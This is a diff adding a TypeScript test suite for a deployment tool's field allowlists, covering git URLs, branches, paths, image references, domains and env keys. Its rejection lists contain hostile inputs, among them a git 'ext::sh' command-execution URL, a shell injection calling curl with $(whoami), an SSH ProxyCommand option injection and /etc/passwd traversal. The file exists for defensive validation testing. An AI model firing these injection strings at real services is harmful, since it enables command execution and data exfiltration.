@@ -1,0 +1,61 @@
+import { injectionPayloads } from '../shell/injection-payloads';
+import { APPLICATION_FIELD_RULES, type ApplicationField } from './application-fields';
+
+const VALID: Record<ApplicationField, string[]> = {
+  name: ['web', 'api-2', 'a', 'x'.repeat(40)],
+  gitBranch: ['main', 'release/1.2', 'feature/new_ui', 'v1.0.0'],
+  gitCommit: ['abc1234', 'a'.repeat(40)],
+  gitUrl: ['https://github.com/org/repo.git', 'http://127.0.0.1:8080/repo.git', 'ssh://git@gitlab.example.com:2222/org/repo.git', 'git@github.com:org/repo.git'],
+  dockerfilePath: ['Dockerfile', 'docker/Dockerfile.prod', 'a.b/c_d-e'],
+  baseDirectory: ['.', 'services/api'],
+  buildTarget: ['runtime', 'build-stage_2'],
+  imageReference: ['nginx', 'nginx:1.27', 'ghcr.io/org/app:v1', 'localhost:5000/app', `app@sha256:${'a'.repeat(64)}`, 'zpanel-test/busybox:latest'],
+  domain: ['app.example.com', 'a-b.c.example.test', 'xn--bcher-kva.example'],
+  envKey: ['DATABASE_URL', '_X', 'a1'],
+};
+
+const INVALID: Record<ApplicationField, string[]> = {
+  name: ['', 'Web', '-web', 'web-', 'a_b', 'x'.repeat(41), 'zp web'],
+  gitBranch: ['', '-main', '.hidden', 'a..b', 'a//b', 'a/', 'a.lock', 'a b', 'a@{1}', 'feat/.x', '/abs'],
+  gitCommit: ['', 'abc', 'ABCDEF1', 'g'.repeat(40), 'a'.repeat(41)],
+  gitUrl: [
+    'ext::sh -c touch% /tmp/pwned',
+    'file:///etc/passwd',
+    '/srv/repo.git',
+    '-uhttps://x',
+    'https://user:secret@github.com/org/repo.git',
+    'https://token@github.com/org/repo.git',
+    'https://github.com/org/repo.git?x=1',
+    'https://github.com/../../etc',
+    "repo.git';curl x/$(whoami)",
+    'git@github.com:-oProxyCommand=x',
+    'ftp://example.com/repo.git',
+  ],
+  dockerfilePath: ['', '/etc/passwd', '../Dockerfile', 'a/../../b', '-f', 'a b', '.'.repeat(1) + '/x', 'a//b'],
+  baseDirectory: ['', '..', '/', 'a/..', '-C'],
+  buildTarget: ['', '-x', 'a b', 'x'.repeat(129)],
+  imageReference: ['', 'Nginx', 'nginx:', '-nginx', 'nginx:latest extra', 'a'.repeat(256), 'nginx@sha256:abc'],
+  domain: ['', 'localhost', 'APP.example.com', '*.example.com', 'example', 'a..b', '-a.example.com', 'a.example.com.', '1.2.3.4', 'a_b.example.com'],
+  envKey: ['', '1X', 'A-B', 'A B', 'A=B', 'x'.repeat(257)],
+};
+
+describe('application field allowlists', () => {
+  for (const field of Object.keys(APPLICATION_FIELD_RULES) as ApplicationField[]) {
+    const rule = APPLICATION_FIELD_RULES[field];
+
+    it(`${field}: accepts ordinary values`, () => {
+      expect(VALID[field].filter((v) => rule(v) !== null)).toEqual([]);
+    });
+
+    it(`${field}: refuses malformed values with a message`, () => {
+      expect(INVALID[field].filter((v) => rule(v) === null)).toEqual([]);
+      expect(rule(INVALID[field][0])).toMatch(/must/);
+    });
+
+    it(`${field}: refuses every SECURITY.md payload, NUL bytes, non-UTF-8 and 10 MB strings`, () => {
+      const payloads = [...injectionPayloads('/tmp/pwned'), 'main\0', 'a\uFFFDb', '\u00ff\u00fe', 'x'.repeat(10 * 1024 * 1024), 42, null, undefined, ['main'], { toString: () => 'main' }];
+      const accepted = payloads.filter((p) => rule(p) === null);
+      expect(accepted).toEqual([]);
+    });
+  }
+});
